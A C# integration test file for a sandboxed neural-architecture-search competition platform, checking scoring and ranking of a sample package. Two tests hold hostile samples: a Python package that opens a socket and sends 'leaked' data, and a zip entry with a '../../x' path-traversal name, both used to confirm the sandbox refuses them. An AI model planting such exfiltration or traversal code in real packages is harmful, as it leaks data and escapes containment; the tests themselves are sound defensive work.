using System.IO.Compression;
using System.Net;
using System.Net.Sockets;
using NasArena.Platform.Tests.Infrastructure;

namespace NasArena.Platform.Tests.UnseenData;

/// <summary>
/// Issue 4 end to end: the starter kit's sample package, uploaded with the Python client, runs in the sandbox on each
/// hidden data set and is scored per data set and ranked; hostile packages end with their reason.
/// </summary>
[Collection(SqliteDiskCollection.Name)]
[Trait("Category", "Integration")]
public sealed class UnseenDataTrackTests(SqliteDiskHost fixture)
{
    private readonly PlatformHost _host = fixture.Host;

    [Fact]
    public async Task TheSamplePackageIsRunOnEachHiddenDataSetScoredPerDataSetAndRanked()
    {
        var scenario = await UnseenDataScenario.CreateAsync(_host);
        var cli = CliSession.For(_host, scenario.Participant);
        UnseenDataScenario.WritePackage(cli.PathOf("sample.zip"), "sample");

        var submit = await cli.RunAsync("submit", "--phase", scenario.CliPhase, "--description", "sample", "--wait", "sample.zip");
        Assert.True(submit.ExitCode == 0, submit.ToString());
        foreach (var expected in new[] { "Scored", "Fashion_accuracy=", "Fashion_score=", "FashionGroups_accuracy=", "FashionGroups_score=", " score=" })
        {
            Assert.True(submit.Stdout.Contains(expected), $"'{expected}' is missing: " + submit);
        }
        var submission = await scenario.Participant.GetJsonAsync($"submissions/{CliSession.SubmissionId(submit)}");
        var metrics = submission["publicMetrics"]!.AsObject();
        // Better than chance on both (10 and 4 classes), and the total is the sum of the data sets' scores.
        Assert.InRange(metrics["Fashion_accuracy"]!.GetValue<double>(), 20, 100);
        Assert.InRange(metrics["FashionGroups_accuracy"]!.GetValue<double>(), 35, 100);
        Assert.Equal(metrics["Fashion_score"]!.GetValue<double>() + metrics["FashionGroups_score"]!.GetValue<double>(),
            metrics["score"]!.GetValue<double>(), 9);

        var board = await cli.RunAsync("leaderboard", "--phase", scenario.CliPhase);
        Assert.True(board.ExitCode == 0, board.ToString());
        Assert.Matches(@"(?m)^\s+1\s", board.Stdout);
    }

    [Fact]
    public async Task APackageThatOpensANetworkConnectionEndsFailedAndReachesNothing()
    {
        var scenario = await UnseenDataScenario.CreateAsync(_host);
        var cli = CliSession.For(_host, scenario.Participant);
        using var listener = new TcpListener(System.Net.IPAddress.Loopback, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
        var accepted = listener.AcceptTcpClientAsync();
        UnseenDataScenario.WritePackage(cli.PathOf("leak.zip"), "baseline", new Dictionary<string, string>
        {
            ["nas.py"] = $$"""
                import math
                import socket

                from torch import nn


                class NAS:
                    def __init__(self, train_loader, valid_loader, metadata):
                        self.metadata = metadata

                    def search(self):
                        socket.create_connection(("127.0.0.1", {{port}}), timeout=5).sendall(b"leaked")
                        return nn.Sequential(nn.Flatten(), nn.Linear(math.prod(self.metadata["input_shape"][1:]), self.metadata["num_classes"]))
                """,
        });

        var submit = await cli.RunAsync("submit", "--phase", scenario.CliPhase, "--wait", "leak.zip");
        Assert.True(submit.ExitCode == 2, submit.ToString());
        Assert.Contains("Failed", submit.Stdout);
        Assert.Contains("ConnectionRefusedError", submit.Stdout);
        Assert.Contains("FashionGroups", submit.Stdout);
        Assert.False(accepted.IsCompleted, "A sandboxed package reached a TCP server on the host's loopback.");
    }

    [Fact]
    public async Task APackageWithAPathClimbingOutIsRefusedNamingTheEntry()
    {
        var scenario = await UnseenDataScenario.CreateAsync(_host);
        var cli = CliSession.For(_host, scenario.Participant);
        UnseenDataScenario.WritePackage(cli.PathOf("climb.zip"), "baseline");
        using (var zip = ZipFile.Open(cli.PathOf("climb.zip"), ZipArchiveMode.Update))
        {
            using var writer = new StreamWriter(zip.CreateEntry("../../x").Open());
            writer.Write("x");
        }

        var submit = await cli.RunAsync("submit", "--phase", scenario.CliPhase, "--wait", "climb.zip");
        Assert.True(submit.ExitCode == 1, submit.ToString());
        Assert.Contains("'../../x'", submit.Stderr);
        Assert.Contains("path traversal", submit.Stderr);
    }
}
